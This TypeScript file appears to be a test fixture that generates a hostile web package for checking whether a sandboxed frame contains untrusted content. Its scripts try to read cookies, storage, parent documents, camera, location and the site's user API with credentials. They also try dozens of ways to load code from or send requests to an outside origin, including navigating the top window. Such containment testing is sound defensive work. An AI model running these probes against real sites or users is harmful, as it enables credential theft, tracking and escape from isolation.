/**
 * A package that tries every way out of its frame it knows of. Each try is written down as refused or with what it
 * gave; `#done` appears when all have had their time.
 * @param outside an origin that counts who reaches it
 * @param site the site's own origin
 */
export function hostilePackage({ outside, site }: { outside: string; site: string }) {
  return {
    'index.html': page(READING + LOADING, { outside, site }),
    'leave.html': page(LEAVING, { outside, site }),
    'inner.html': `<!doctype html><script>fetch('${outside}/inner').catch(() => {})</script>`,
    'drawing.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${outside}/svg')</script><image href="${outside}/svg-image" width="9" height="9"/></svg>`,
  }
}

const page = (script: string, { outside, site }: { outside: string; site: string }) =>
  `<!doctype html><html><head><meta charset="utf-8"><title>hostile</title></head><body><ol id="tries"></ol>
<script>
const OUT = ${JSON.stringify(outside)}, SITE = ${JSON.stringify(site)}
const tries = {}
const note = (name, value) => { tries[name] = value }
const attempt = async (name, work) => {
  try { note(name, await Promise.race([Promise.resolve(work()).then((v) => 'GOT ' + String(v).slice(0, 60)), new Promise((r) => setTimeout(r, 3000, 'nothing'))])) }
  catch (error) { note(name, 'refused') }
}
const add = (html) => document.body.insertAdjacentHTML('beforeend', html)
const put = (tag, props, where = document.head) => new Promise((resolve, reject) => {
  const node = Object.assign(document.createElement(tag), props)
  node.onload = () => resolve('loaded'); node.onerror = () => reject(new Error('refused'))
  where.append(node)
})
const finish = () => { document.body.insertAdjacentHTML('beforeend', '<pre id="done"></pre>'); document.getElementById('done').textContent = JSON.stringify(tries) }
${script}
</script></body></html>`

/** What belongs to the reader or to the site. */
const READING = `
const reading = [
  attempt('cookie', () => document.cookie),
  attempt('set cookie', () => { document.cookie = 'a=b'; return 'set' }),
  attempt('localStorage', () => localStorage.length),
  attempt('sessionStorage', () => sessionStorage.length),
  attempt('indexedDB', () => new Promise((y, n) => { const r = indexedDB.open('x'); r.onsuccess = y; r.onerror = n })),
  attempt('caches', () => caches.keys()),
  attempt('service worker', () => navigator.serviceWorker.register('sw.js')),
  attempt('parent document', () => parent.document.title),
  attempt('top address', () => top.location.href),
  attempt('parent storage', () => parent.localStorage.length),
  attempt('frame element', () => { if (!window.frameElement) throw 0; return 'frame' }),
  attempt('api with cookies', () => fetch(SITE + '/api/users/me', { credentials: 'include' }).then((r) => r.text())),
  attempt('api by XHR', () => new Promise((y, n) => { const x = new XMLHttpRequest(); x.open('GET', SITE + '/api/users/me'); x.withCredentials = true; x.onload = () => y(x.responseText); x.onerror = n; x.send() })),
  attempt('api as a script', () => put('script', { src: SITE + '/api/users/me' })),
  attempt('page of the site in a frame', () => { add('<iframe id="site-frame"></iframe>'); const f = document.getElementById('site-frame'); f.src = SITE + '/?framed'; return new Promise((r) => { f.onload = () => { try { r(f.contentDocument.title) } catch { r('closed') } } }) .then((v) => { if (v === 'closed') throw 0; return v }) }),
  attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true })),
  attempt('place', () => new Promise((y, n) => navigator.geolocation.getCurrentPosition(y, n))),
]
`

/** What fetches or sends. */
const LOADING = `
const inner = (path) => 'fetch("' + OUT + path + '").catch(() => {}); new Image().src = "' + OUT + path + '-image"'
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }))
const loading = [
  attempt('fetch', () => fetch(OUT + '/fetch')),
  attempt('fetch no-cors', () => fetch(OUT + '/no-cors', { mode: 'no-cors' })),
  attempt('fetch keepalive', () => fetch(OUT + '/keepalive', { method: 'POST', body: 'x', keepalive: true })),
  attempt('XHR', () => new Promise((y, n) => { const x = new XMLHttpRequest(); x.open('POST', OUT + '/xhr'); x.onload = y; x.onerror = n; x.send('x') })),
  attempt('beacon', () => { navigator.sendBeacon(OUT + '/beacon', 'x'); throw 0 }),
  attempt('WebSocket', () => new Promise((y, n) => { const s = new WebSocket(OUT.replace('http', 'ws') + '/socket'); s.onopen = y; s.onerror = n })),
  attempt('EventSource', () => new Promise((y, n) => { const s = new EventSource(OUT + '/events'); s.onopen = y; s.onerror = n })),
  attempt('WebTransport', () => new WebTransport(OUT.replace('http:', 'https:') + '/transport').ready),
  attempt('picture', () => put('img', { src: OUT + '/img' }, document.body)),
  attempt('srcset', () => put('img', { srcset: OUT + '/srcset 1x' }, document.body)),
  attempt('script', () => put('script', { src: OUT + '/script.js' })),
  attempt('module', () => import(OUT + '/module.mjs')),
  attempt('stylesheet', () => put('link', { rel: 'stylesheet', href: OUT + '/style.css' })),
  attempt('css import', () => put('style', { textContent: '@import url("' + OUT + '/import.css");' })),
  attempt('css picture', () => { add('<div style="background:url(' + OUT + '/background);cursor:url(' + OUT + '/cursor),auto;width:9px;height:9px"></div>'); throw 0 }),
  attempt('font', () => new FontFace('f', 'url(' + OUT + '/font.woff2)').load()),
  attempt('video', () => put('video', { src: OUT + '/video.mp4', poster: OUT + '/poster', autoplay: true }, document.body)),
  attempt('audio', () => { new Audio(OUT + '/audio.mp3').play(); throw 0 }),
  attempt('object', () => put('object', { data: OUT + '/object' }, document.body)),
  attempt('embed', () => put('embed', { src: OUT + '/embed', type: 'text/html' }, document.body)),
  attempt('manifest', () => put('link', { rel: 'manifest', href: OUT + '/manifest' })),
  ...['prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'dns-prefetch', 'subresource'].map((rel) =>
    attempt('link ' + rel, () => put('link', { rel, as: 'script', href: OUT + '/link-' + rel }))),
  attempt('speculation', () => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: [OUT + '/speculation'], eagerness: 'immediate' }], prerender: [{ urls: [OUT + '/prerendered'], eagerness: 'immediate' }] }); document.head.append(s); throw 0 }),
  attempt('frame', () => { add('<iframe src="' + OUT + '/frame"></iframe>'); throw 0 }),
  attempt('frame by script', () => { add('<iframe id="led"></iframe>'); document.getElementById('led').contentWindow.location = OUT + '/led'; throw 0 }),
  attempt('srcdoc', () => { add('<iframe srcdoc=\\'<meta http-equiv="refresh" content="0;url=' + OUT + '/srcdoc-refresh"><script>' + inner('/srcdoc') + '<\\/script>\\'></iframe>'); throw 0 }),
  attempt('data frame', () => { add('<iframe src="data:text/html,<script>' + encodeURIComponent(inner('/data')) + '<\\/script>"></iframe>'); throw 0 }),
  attempt('blob frame', () => { add('<iframe src="' + blob('<script>' + inner('/blob') + '<\\/script>', 'text/html') + '"></iframe>'); throw 0 }),
  attempt('own frame', () => { add('<iframe src="inner.html"></iframe><iframe src="drawing.svg"></iframe>'); throw 0 }),
  attempt('blob worker', () => { new Worker(blob('fetch("' + OUT + '/worker"); importScripts("' + OUT + '/worker.js")', 'text/javascript')); throw 0 }),
  attempt('data worker', () => { new Worker('data:text/javascript,' + encodeURIComponent('fetch("' + OUT + '/data-worker")')); throw 0 }),
  attempt('worklet', () => CSS.paintWorklet.addModule(OUT + '/worklet.js')),
  attempt('wasm', () => WebAssembly.compileStreaming(fetch(OUT + '/wasm'))),
  attempt('ping', () => { add('<a id="ping" href="#x" ping="' + OUT + '/ping">x</a>'); document.getElementById('ping').click(); throw 0 }),
  attempt('form into a frame', () => { add('<iframe name="sink"></iframe><form id="f1" method="post" action="' + OUT + '/form" target="sink"><input name="a" value="b"></form>'); document.getElementById('f1').submit(); throw 0 }),
  attempt('svg picture', () => { add('<svg><image href="' + OUT + '/svg-href" width="9" height="9"/><use href="' + OUT + '/use.svg#a"/></svg>'); throw 0 }),
  attempt('base', () => { add('<base href="' + OUT + '/">'); const img = new Image(); img.src = 'based'; throw 0 }),
  attempt('window', () => { if (!window.open(OUT + '/window')) throw 0; return 'opened' }),
  attempt('new tab', () => { add('<a id="tab" target="_blank" href="' + OUT + '/tab">x</a>'); document.getElementById('tab').click(); throw 0 }),
  attempt('top by script', () => { top.location.href = OUT + '/top'; return 'led' }),
  attempt('top by link', () => { add('<a id="top" target="_top" href="' + OUT + '/top-link">x</a>'); document.getElementById('top').click(); throw 0 }),
  attempt('top by form', () => { add('<form id="f2" target="_top" action="' + OUT + '/top-form"></form>'); document.getElementById('f2').submit(); throw 0 }),
]
Promise.all([...reading, ...loading]).then(finish)
`

/** Ways of a page to lead its own frame elsewhere; the address names one. */
const LEAVING = `
const ways = {
  location: () => { location.href = OUT + '/left-location?secret' },
  replace: () => { location.replace(OUT + '/left-replace') },
  link: () => { add('<a id="a" href="' + OUT + '/left-link">x</a>'); document.getElementById('a').click() },
  download: () => { add('<a id="d" download href="' + OUT + '/left-download">x</a>'); document.getElementById('d').click() },
  form: () => { add('<form id="f" action="' + OUT + '/left-form"></form>'); document.getElementById('f').submit() },
  refresh: () => { document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=' + OUT + '/left-refresh">') },
  api: () => { location.href = SITE + '/api/users/me' },
  site: () => { location.href = SITE + '/?left' },
}
document.body.insertAdjacentHTML('beforeend', '<p id="done">leaving</p>')
setTimeout(ways[location.hash.slice(1)], 100)
`
